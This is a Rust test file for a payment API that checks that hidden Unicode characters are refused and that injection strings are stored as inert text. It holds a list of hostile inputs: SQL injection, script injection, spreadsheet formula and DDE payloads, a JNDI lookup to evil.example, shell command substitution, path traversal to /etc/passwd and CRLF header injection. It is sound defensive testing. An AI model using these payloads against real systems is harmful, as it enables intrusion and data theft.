//! Every text that somebody else can fill in, at the real program: what shows nothing or turns the writing round it is refused
//! by its field; what a database, a shell, a page or a spreadsheet would take for more than text is text, and comes back as it
//! went in; what comes in paths, queries and headers does nothing.

use std::io::{Read, Write};
use std::net::TcpStream;

use crate::support::{Cloud, watches};
use paychip::api::{Api, text};
use paychip::books::{open_account, take_on_merchant, top_up};
use serde_json::{Value, json};
use wearable::CodeForm;

/// As JSON escapes, so that also what is no character can be sent.
const HIDDEN: [&str; 20] = [
    r"a\u0000b",
    r"a\u0007b",
    r"a\r\nb",
    r"a\u001b[2Jb",
    r"a\u007fb",
    r"a\u009b31mb",
    r"a\u202eb",
    r"a\u202ab",
    r"a\u2066b",
    r"a\u2069b",
    r"a\u200eb",
    r"a\u200bb",
    r"a\u200db",
    r"a\u2060b",
    r"a\ufeffb",
    r"a\u00adb",
    r"a\u2028b",
    r"a\ufffeb",
    r"a\u3164b",
    r"a\udb40\udc41b",
];

/// Texts that are only texts.
const ONLY_TEXT: [&str; 17] = [
    "'; DROP TABLE accounts; --",
    "\" OR 1=1 --",
    "x') RETURNING *; --",
    "$1",
    "%s%n%x",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "&lt;b&gt;",
    "=HYPERLINK(\"http://evil.example\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {% raw %}",
    "$(id) `id` ; id | id",
    "../../etc/passwd",
    "李伟 – ☕ Zoë می‌خواهم",
];

/// An answer as it came over the wire.
struct Answer {
    status: u16,
    head: String,
    body: Value,
}

impl Answer {
    fn error(&self, name: &str) -> &str {
        self.body["error"][name].as_str().unwrap_or_default()
    }
}

/// Sends bytes and reads what is answered until the server closes.
fn exchange(cloud: &Cloud, request: &[u8]) -> Answer {
    let mut connection = TcpStream::connect(cloud.url.strip_prefix("http://").unwrap()).unwrap();
    connection.set_read_timeout(Some(std::time::Duration::from_secs(20))).unwrap();
    connection.write_all(request).unwrap();
    let mut answer = Vec::new();
    connection.read_to_end(&mut answer).unwrap();
    let answer = String::from_utf8(answer).expect("an answer is UTF-8");
    let (head, body) = answer.split_once("\r\n\r\n").unwrap_or((&answer, ""));
    let status = head.split(' ').nth(1).and_then(|status| status.parse().ok()).unwrap_or(0);
    Answer { status, head: head.to_owned(), body: serde_json::from_str(body).unwrap_or(Value::Null) }
}

fn send(cloud: &Cloud, key: &str, method: &str, path: &str, body: &str) -> Answer {
    let head = format!(
        "{method} {path} HTTP/1.1\r\nhost: paychip\r\nconnection: close\r\nauthorization: Bearer {key}\r\n\
         content-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    exchange(cloud, head.as_bytes())
}

/// A place where somebody fills in a text: who, where, in which field, and the body around it, `@` standing for the text.
struct Place {
    key: String,
    path: String,
    field: &'static str,
    body: String,
}

struct World {
    cloud: Cloud,
    operator_key: String,
    wearer_key: String,
    shop_key: String,
    token: String,
    payment: String,
    free: Vec<Place>,
    narrow: Vec<Place>,
    _folder: tempfile::TempDir,
}

impl World {
    fn begin() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let cloud = Cloud::start(folder.path());
        let operator = cloud.operator();
        let operator_key = std::fs::read_to_string(folder.path().join("operator.key")).unwrap().trim().to_owned();
        let (wearer, _) = open_account(&operator, "Li Wei", "CNY").unwrap();
        let (shop, _) = take_on_merchant(&operator, "Tea House", "CNY").unwrap();
        top_up(&operator, &wearer, 100_000, "first").unwrap();
        let at = |key: &str| Api::new(cloud.url.clone(), key.to_owned());
        let mut watch = watches(&cloud, &at(&wearer.key), 1).remove(0);
        let code = watch.next_payment_code(CodeForm::Digits).unwrap().digits().to_owned();
        let paid = at(&shop.key).post("/v1/payments", &json!({"order": "1", "code": code, "amount": 100})).unwrap();
        let payment = text(&paid, "id").unwrap();
        let token = text(&at(&wearer.key).get("/v1/tokens").unwrap()[0], "id").unwrap();
        let rules = r#"{"rules": [
            {"name": "single", "effect": "decline", "kind": "payment", "currency": "CNY", "max": 500000},
            {"name": "day", "effect": "decline", "kind": "sum", "per": "day", "of": "account", "currency": "CNY", "max": 500000}
            ], "why": "@"}"#;
        let place = |key: &str, path: String, field, body: &str| Place {
            key: key.to_owned(),
            path,
            field,
            body: body.to_owned(),
        };
        let (operator, accounts) = (&operator_key, format!("/v1/accounts/{}", wearer.id));
        let merchant = format!("/v1/merchants/{}", shop.id);
        let free = vec![
            place(operator, "/v1/accounts".into(), "name", r#"{"name": "@"}"#),
            place(operator, "/v1/merchants".into(), "name", r#"{"name": "@"}"#),
            place(operator, format!("{accounts}/top-ups"), "reference", r#"{"amount": 1, "reference": "@"}"#),
            place(operator, format!("{merchant}/reinstate"), "why", r#"{"why": "@"}"#),
            place(&wearer.key, format!("/v1/tokens/{token}/freeze"), "why", r#"{"why": "@"}"#),
            place(&wearer.key, format!("/v1/tokens/{token}/resume"), "why", r#"{"why": "@"}"#),
            place(operator, "/v1/risk/rules".into(), "why", rules),
        ];
        let model = r#"{"name": "@", "suite": "international", "flash_kib": 64, "applets": []}"#;
        let maker = r#"{"code": "@", "name": "Sunrise", "kind": "chips", "root": "x"}"#;
        let device = r#"{"name": "@", "kind": "watch", "screen": "round", "link": "phone", "passcode": true, "wear_detection": true}"#;
        let rule = r#"{"rules": [{"name": "@", "effect": "decline", "kind": "payment", "currency": "CNY", "max": 1}]}"#;
        let narrow = vec![
            place(&shop.key, "/v1/payments".into(), "order", r#"{"order": "@", "code": "7", "amount": 1}"#),
            place(&shop.key, "/v1/payments".into(), "code", r#"{"order": "2", "code": "@", "amount": 1}"#),
            place(
                &shop.key,
                "/v1/payments".into(),
                "currency",
                r#"{"order": "2", "code": "7", "amount": 1, "currency": "@"}"#,
            ),
            place(&shop.key, "/v1/payments/cancel".into(), "order", r#"{"order": "@"}"#),
            place(&shop.key, format!("/v1/payments/{payment}/refunds"), "refund", r#"{"refund": "@", "amount": 1}"#),
            place(operator, "/v1/merchants".into(), "category", r#"{"name": "x", "category": "@"}"#),
            place(operator, "/v1/accounts".into(), "currency", r#"{"name": "x", "currency": "@"}"#),
            place(operator, "/v1/makers".into(), "code", maker),
            place(operator, "/v1/makers/sunrise/chip-models".into(), "name", model),
            place(operator, "/v1/makers/sunrise/device-models".into(), "name", device),
            place(operator, "/v1/risk/rules".into(), "rules[0].name", rule),
            place(&wearer.key, "/v1/bindings".into(), "offer", r#"{"offer": "@"}"#),
            place(&wearer.key, format!("/v1/tokens/{token}/sync/relay"), "message", r#"{"message": "@"}"#),
            place("", "/v1/devices/binding".into(), "offer", r#"{"offer": "@"}"#),
        ];
        Self {
            cloud,
            wearer_key: wearer.key.clone(),
            shop_key: shop.key.clone(),
            operator_key: operator_key.clone(),
            token,
            payment,
            free,
            narrow,
            _folder: folder,
        }
    }

    /// Fills a place in; `escaped` is what stands between the quotes.
    fn fill(&self, place: &Place, escaped: &str) -> Answer {
        send(&self.cloud, &place.key, "POST", &place.path, &place.body.replacen('@', escaped, 1))
    }

    /// Everything the server says of what it keeps: nothing hidden may be anywhere in it.
    fn said(&self) -> String {
        let subject = format!("/v1/events?subject={}", self.token);
        let asked = [
            (&self.operator_key, subject.as_str()),
            (&self.operator_key, "/v1/risk/versions"),
            (&self.wearer_key, "/v1/tokens"),
            (&self.shop_key, "/v1/payments"),
        ];
        asked.map(|(key, path)| send(&self.cloud, key, "GET", path, "").body.to_string()).concat()
    }
}

#[test]
fn no_text_that_shows_nothing_or_turns_writing_round_is_taken_in_any_field() {
    let world = World::begin();
    let before = world.said();
    for place in world.free.iter().chain(&world.narrow) {
        for hidden in HIDDEN {
            let answer = world.fill(place, hidden);
            let what = format!("{hidden} in {} of {}: {}", place.field, place.path, answer.body);
            assert_eq!(answer.status, 400, "{what}");
            assert_eq!(answer.error("field"), place.field, "{what}");
            let code = answer.error("code");
            assert!(code.ends_with("_malformed") || code == "currency_invalid", "{what}");
        }
        // Half a surrogate pair, and bytes that are no UTF-8, are no JSON.
        for no_text in [r"a\ud800b", r"a\udc00\ud800b", "a\u{1}b"] {
            let answer = world.fill(place, no_text);
            assert_eq!((answer.status, answer.error("code")), (400, "body_malformed"), "{no_text} in {}", place.path);
        }
    }
    assert_eq!(world.said(), before, "nothing was changed");
    let answer = world.cloud.operator().get("/v1/audit").unwrap();
    assert_eq!(answer["findings"], json!([]));
}

#[test]
fn what_others_would_run_is_only_text_here() {
    let world = World::begin();
    for place in &world.free {
        for harmless in ONLY_TEXT {
            let escaped = serde_json::to_string(harmless).unwrap();
            let answer = world.fill(place, escaped.trim_start_matches('"').strip_suffix('"').unwrap());
            let what = format!("{harmless:?} in {} of {}: {}", place.field, place.path, answer.body);
            assert!(answer.status < 300, "{what}");
            if let Some(kept) = answer.body.get(place.field) {
                assert_eq!(kept, harmless, "{what}");
            }
        }
    }
    // In the trail, word for word; and as JSON, which no browser takes for a page.
    let trail = world.said();
    for harmless in ONLY_TEXT {
        assert!(trail.contains(&serde_json::to_string(harmless).unwrap()), "{harmless:?} is not in the trail");
    }
    let answer = send(&world.cloud, &world.wearer_key, "GET", &format!("/v1/tokens/{}", world.token), "");
    assert!(answer.head.to_ascii_lowercase().contains("content-type: application/json"), "{}", answer.head);
    for place in &world.narrow {
        for harmless in ONLY_TEXT {
            let escaped = serde_json::to_string(harmless).unwrap();
            let answer = world.fill(place, escaped.trim_start_matches('"').strip_suffix('"').unwrap());
            let what = format!("{harmless:?} in {} of {}: {}", place.field, place.path, answer.body);
            // Some order numbers may look like this; every other answer names the field.
            assert!(answer.status < 500 && answer.error("code") != "internal", "{what}");
            let is_number =
                ["order", "refund"].contains(&place.field) && harmless.bytes().all(|b| b.is_ascii_graphic());
            assert!(is_number || (answer.status == 400 && answer.error("field") == place.field), "{what}");
        }
    }
    let answer = world.cloud.operator().get("/v1/audit").unwrap();
    assert_eq!(answer["findings"], json!([]));
}

#[test]
fn paths_queries_and_headers_do_nothing_but_what_they_say() {
    let world = World::begin();
    let before = world.said();
    let evil = [
        "%00",
        "%FF",
        "%0d%0aset-cookie:%20x=1",
        "%E2%80%AE",
        "..%2f..%2fetc%2fpasswd",
        "'%20OR%201=1--",
        "%ED%A0%80",
        "%",
    ];
    for part in evil {
        for (key, path) in [
            (&world.wearer_key, format!("/v1/tokens/{part}")),
            (&world.wearer_key, format!("/v1/tokens/{part}/sync")),
            (&world.shop_key, format!("/v1/payments/{part}")),
            (&world.operator_key, format!("/v1/accounts/{part}")),
            (&world.operator_key, format!("/v1/makers/{part}")),
            (&world.operator_key, format!("/v1/shipments/{part}")),
            (&world.wearer_key, format!("/v1/bindings/{part}")),
            (&world.operator_key, format!("/v1/tokens?account={part}")),
            (&world.operator_key, format!("/v1/risk/rules?version={part}")),
            (&world.operator_key, format!("/{part}")),
        ] {
            let answer = send(&world.cloud, key, "GET", &path, "");
            let what = format!("{path}: {} {}", answer.head, answer.body);
            assert!((400..500).contains(&answer.status), "{what}");
            assert!(!answer.error("code").is_empty(), "an error with a code: {what}");
            assert!(!answer.head.to_ascii_lowercase().contains("set-cookie"), "{what}");
        }
        // What is only compared finds nothing.
        for (key, path) in [
            (&world.operator_key, format!("/v1/events?subject={part}")),
            (&world.operator_key, format!("/v1/makers?after={part}")),
            (&world.shop_key, format!("/v1/payments?order={part}")),
        ] {
            let answer = send(&world.cloud, key, "GET", &path, "");
            assert!(answer.status == 400 || answer.body == json!([]), "{path}: {}", answer.body);
        }
    }
    // Headers: a line more is another header, what is no header is no request, and no key is found by parts of one.
    for value in
        ["Bearer ' OR 1=1 --", "Bearer wk_%", "Bearer ../operator.key", "Bearer wk_\u{202e}", "Basic eDp5", "Bearer"]
    {
        let request =
            format!("GET /v1/tokens HTTP/1.1\r\nhost: p\r\nconnection: close\r\nauthorization: {value}\r\n\r\n");
        let answer = exchange(&world.cloud, request.as_bytes());
        assert_eq!((answer.status, answer.error("code")), (401, "unauthenticated"), "{value}");
    }
    for head in ["x-a: b\0c", "x-a: b\rset-cookie: x=1", "x a: b", "content-length: 1\r\ncontent-length: 2"] {
        let key = &world.wearer_key;
        let request = format!(
            "POST /v1/tokens/{}/freeze HTTP/1.1\r\nhost: p\r\nconnection: close\r\nauthorization: Bearer {key}\r\n{head}\r\n\r\n",
            world.token
        );
        let answer = exchange(&world.cloud, request.as_bytes());
        assert_eq!(answer.status, 400, "{head:?}: {}", answer.head);
        assert!(!answer.head.to_ascii_lowercase().contains("set-cookie"), "{}", answer.head);
    }
    assert_eq!(world.said(), before, "nothing was changed");
    let paid = send(&world.cloud, &world.shop_key, "GET", &format!("/v1/payments/{}", world.payment), "");
    assert_eq!(paid.body["state"], "succeeded");
}
